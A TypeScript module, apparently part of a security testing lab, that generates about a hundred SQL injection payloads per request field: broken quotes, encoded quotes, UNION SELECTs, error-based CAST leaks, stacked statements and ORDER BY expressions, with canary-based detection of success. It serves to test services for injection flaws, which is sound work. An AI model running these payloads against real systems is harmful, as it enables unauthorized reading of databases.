import type { Attack, LabRequest, LabResponse, Reply } from '../lab.ts'
import type { Random } from '../random.ts'

/** A place in a request that an attacker can fill, and how to see that what they put there was taken for SQL. */
export type InjectionPlace = {
  /** What it is, for the report: 'the search text'. */
  place: string
  /** What a careless service makes of it: a quoted text, a bare number, or the name of a column to sort by. */
  as: 'text' | 'number' | 'sort'
  /** What an honest client sends there: 'shipped', '17', 'created_at'. */
  ordinary: string
  /** The request with a payload there, encoded as an honest client would. */
  request: (payload: string) => LabRequest
  /** Text that only rows carry which no honest request of this kind shows; it must not occur in `where`. */
  canary: string
  /** Picks such rows, in the columns of the careless statement: 'customer_id <> 1'. All rows where not told. */
  where?: string
  /** Columns that a UNION may have to match. 1 to 8 where not told. */
  columns?: { from: number; to: number }
  /**
   * Other things that a single reply shows, such as a row that `where` picks coming first; needed for 'sort', where
   * rows only change places.
   */
  sees?: (response: LabResponse) => boolean
}

/**
 * Attempts at SQL injection, about a hundred for each place, with marks and spelling from the seed. One got in when its reply
 * shows the canary, or a mark that only PostgreSQL can have put together: `reverse('…')` in the payload, the word forwards
 * in the answer. What an echo of the payload shows is neither, so a service may well repeat what it refused.
 */
export function injection(...places: [InjectionPlace, ...InjectionPlace[]]): Attack {
  return {
    kind: 'injection',
    attempts: (random) =>
      places.flatMap((place) => {
        const mark = markOf(random)
        return payloadsOf(place, mark, random).map(({ tries, payload }) => ({
          tries: `${tries} in ${place.place}`,
          request: place.request(payload),
          gotIn: (reply: Reply) => shows(reply, place, mark),
        }))
      }),
  }
}

function shows(reply: Reply, { canary, sees }: InjectionPlace, mark: string): boolean {
  if (reply.kind !== 'answered') return false
  const { response } = reply
  const texts = [response.body, ...Object.values(response.headers)]
  return texts.some((text) => text.includes(canary) || text.includes(mark)) || sees?.(response) === true
}

/** A word that reads differently backwards and is not to be met by chance. */
const markOf = (random: Random): string =>
  `pv${Array.from({ length: 10 }, () => String.fromCharCode(97 + random.below(26))).join('')}0`

type Payload = { tries: string; payload: string }

function payloadsOf(place: InjectionPlace, mark: string, random: Random): Payload[] {
  const { where = '1=1', ordinary, columns = { from: 1, to: 8 } } = place
  const backwards = [...mark].reverse().join('')
  // Without quotes, for places where they are doubled or refused.
  const codes = [...mark].map((character) => `chr(${character.charCodeAt(0)})`).join('||')
  const end = random.pick(['--', '-- ', ` -- ${mark.slice(0, 4)}`])
  const or = random.pick([' OR ', ' or ', ' oR '])
  // Past who refuses spaces.
  const gap = random.pick(['/**/', '\n', '\t'])
  const unspaced = `${gap}or${gap}(${where.replaceAll(' ', gap)})`
  // A text fits into some column only, and NULL into the others.
  const widths = Array.from({ length: columns.to - columns.from + 1 }, (_, at) => columns.from + at)
  const selects = (value: string) =>
    widths.flatMap((width) =>
      Array.from({ length: width }, (_, place) => {
        const values = Array.from({ length: width }, (_, at) => (at === place ? value : 'NULL'))
        return `UNION ALL SELECT ${values.join(',')} `
      }),
    )

  switch (place.as) {
    case 'text': {
      const broken = (sql: string) => `${ordinary}'${sql}${end}`
      const marked = `reverse('${backwards}')`
      return [
        ...named('a quote broken', [
          broken(`${or}(${where}) `),
          `${ordinary}'${unspaced}--`,
          broken(`)${or}(${where}) `),
          broken(`))${or}(${where}) `),
          `${ordinary}'${or}(${where})${or}'1'='2`,
          `'${or}(${where})${or}'a'='b`,
          `%'${or}(${where}) ${end}`,
        ]),
        ...named('a quote broken, encoded', [
          encodeURIComponent(broken(`${or}(${where}) `)).replaceAll("'", '%27'),
          broken(`${or}(${where}) `).replaceAll("'", '\\u0027'),
          broken(`${or}(${where}) `).replaceAll("'", '\u02bc'),
          broken(`${or}(${where}) `).replaceAll("'", '\uff07'),
          `${ordinary}\\'${or}(${where}) ${end}`,
          `${ordinary}\\''${or}(${where}) ${end}`,
        ]),
        ...named('a UNION', [
          ...selects(marked).map((sql) => broken(` AND 1=2 ${sql}`)),
          ...selects(`(${codes})`).map((sql) => broken(`) AND 1=2 ${sql}`)),
        ]),
        ...named('an error that tells', [
          broken(` AND 1=CAST(${marked} AS int) `),
          `'||CAST(${marked} AS int)||'`,
          broken(`) AND 1=CAST((${codes}) AS int) `),
        ]),
        ...named('a second statement', [
          broken(`; SELECT CAST(${marked} AS int) `),
          broken(`; SELECT ${marked} `),
          broken(`); SELECT CAST((${codes}) AS int) `),
        ]),
      ]
    }
    case 'number': {
      return [
        ...named('a condition after a number', [
          `${ordinary}${or}(${where})`,
          `${ordinary}${or}(${where}) ${end}`,
          `${ordinary})${or}(${where}) ${end}`,
          `${ordinary}))${or}(${where}) ${end}`,
          `${ordinary}${unspaced}`,
          encodeURIComponent(`${ordinary}${or}(${where})`),
        ]),
        ...named('a quote after a number', [
          `${ordinary}'${or}(${where}) ${end}`,
          `${ordinary}'${or}(${where})${or}'1'='2`,
        ]),
        ...named('a UNION', [
          ...selects(`(${codes})`).map((sql) => `-1 ${sql}`),
          ...selects(`(${codes})`).map((sql) => `-1) ${sql}${end}`),
        ]),
        ...named('an error that tells', [
          `${ordinary} AND 1=CAST((${codes}) AS int)`,
          `CAST((${codes}) AS int)`,
          `(SELECT CAST((${codes}) AS int))`,
        ]),
        ...named('a second statement', [
          `${ordinary}; SELECT CAST((${codes}) AS int)${end}`,
          `${ordinary}; SELECT (${codes})${end}`,
        ]),
      ]
    }
    case 'sort':
      return [
        ...named('an expression to sort by', [
          `(CASE WHEN ${where} THEN 0 ELSE 1 END)`,
          `(CASE WHEN ${where} THEN 0 ELSE 1 END),${ordinary}`,
          `CASE WHEN ${where} THEN 0 ELSE 1 END ${end}`,
          `"${ordinary}", (CASE WHEN ${where} THEN 0 ELSE 1 END)`,
          `(${where}) DESC`,
          `(${where}) DESC,${ordinary}`,
          `(${where}) DESC ${end}`,
          `(case/**/when/**/${where}/**/then/**/0/**/else/**/1/**/end)`,
        ]),
        ...named('a quoted name broken', [
          `${ordinary}" IS NULL, (${where}) DESC ${end}`,
          `${ordinary}' , (${where}) DESC ${end}`,
        ]),
        ...named('an error that tells', [
          `(SELECT CAST((${codes}) AS int))`,
          `${ordinary},(SELECT CAST((${codes}) AS int))`,
          `${ordinary} LIMIT CAST((${codes}) AS int) ${end}`,
        ]),
        ...named('a second statement', [`${ordinary}; SELECT (${codes}) ${end}`]),
      ]
  }
}

const named = (tries: string, payloads: string[]): Payload[] =>
  payloads.map((payload) => ({ tries, payload }))
